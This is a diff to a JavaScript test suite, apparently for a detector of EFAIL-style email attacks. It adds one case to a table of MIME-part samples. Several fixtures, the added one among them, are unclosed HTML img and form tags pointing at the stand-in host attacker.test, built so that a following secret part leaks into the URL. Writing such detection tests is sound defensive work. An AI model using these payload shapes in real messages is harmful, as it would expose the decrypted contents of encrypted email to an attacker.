@@ -16,6 +16,7 @@ describe("efail-shape", () => {
     ["a bracket in a value before it", [["text/html", '<img alt=">" src="http://attacker.test/'], [SECRET, "x"]],               true],
     ["an open form",                   [["text/html", '<form action="http://attacker.test/"><textarea name="'], [SECRET, "x"]], true],
     ["armour in a text",               [["text/html", '<img src="'], ["text/plain", "-----BEGIN PGP MESSAGE-----\r\n"]],        true],
+    ["many signs in the value",        [["text/html", `<p>a</p><img src="http://attacker.test/?${"<a".repeat(40)}`], [SECRET, "x"]], true],
     ["a whole tag",                    [["text/html", '<img src="http://a.example/">'], [SECRET, "x"]],                         false],
     ["a smaller-than sign",            [["text/html", "<p>1 < 2, a=b</p>"], [SECRET, "x"]],                                     false],
     ["a quote in the text",            [["text/html", `<p class=a>he said "it's`], [SECRET, "x"]],                              false],
